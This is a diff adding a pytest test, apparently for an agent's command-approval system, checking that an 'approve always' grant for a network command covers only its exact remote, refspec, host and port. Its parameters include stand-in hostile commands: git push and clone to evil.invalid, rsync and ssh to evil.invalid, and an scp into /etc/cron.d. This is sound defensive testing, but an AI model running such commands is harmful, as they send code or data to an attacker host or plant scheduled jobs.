@@ -137,3 +137,31 @@ async def test_the_operator_lists_and_revokes_grants_of_every_scope(
         e for e in await AuditLog(redis, Keys(PREFIX)).newest(50) if e.event == "grant_revoked"
     ]
     assert revoked.actor.startswith("operator:") and revoked.fields["grant"] == grant["id"]
+
+
+@pytest.mark.parametrize(
+    ("approved", "other"),
+    [
+        ("git push origin HEAD:refs/heads/feature", "git push https://evil.invalid/x.git main"),
+        ("git push origin HEAD:refs/heads/feature", "git push origin HEAD:refs/heads/main"),
+        ("git fetch origin main", "git fetch https://evil.invalid/x.git main"),
+        ("git pull origin main", "git pull evil main"),
+        ("git clone https://a.invalid/r.git r", "git clone https://evil.invalid/r.git r"),
+        ("git ls-remote origin", "git ls-remote https://evil.invalid/x.git"),
+        ("rsync -a a.txt backup.invalid:/srv/app", "rsync -a a.txt evil.invalid:/srv/app"),
+        ("scp a.txt host.invalid:dir", "scp a.txt host.invalid:/etc/cron.d"),
+        ("ssh -p 22 host.invalid uptime", "ssh -p 22 evil.invalid uptime"),
+        ("ssh -p 22 host.invalid uptime", "ssh -p 2222 host.invalid uptime"),
+    ],
+)
+async def test_a_network_grant_covers_only_its_destination_and_refspec(
+    redis: aioredis.Redis, workdir: Path, approved: str, other: str
+) -> None:
+    """The docs promise a network rule covers its exact address: an "approve always" of a
+    push, fetch or copy to one remote and refspec never lets another one run unasked."""
+    one, two = runtimes(redis, workdir)
+    approval = await asks(one, "s1", approved)
+    answer = await command(one, "s1", f"/approve {approval} always", APPROVER)
+    assert f"Calls matching `bash {approved}` are now allowed" in answer
+    await asks(two, "s2", other)  # another destination or refspec: asks again
+    assert await runs(two, "s3", approved)  # the same call again: covered
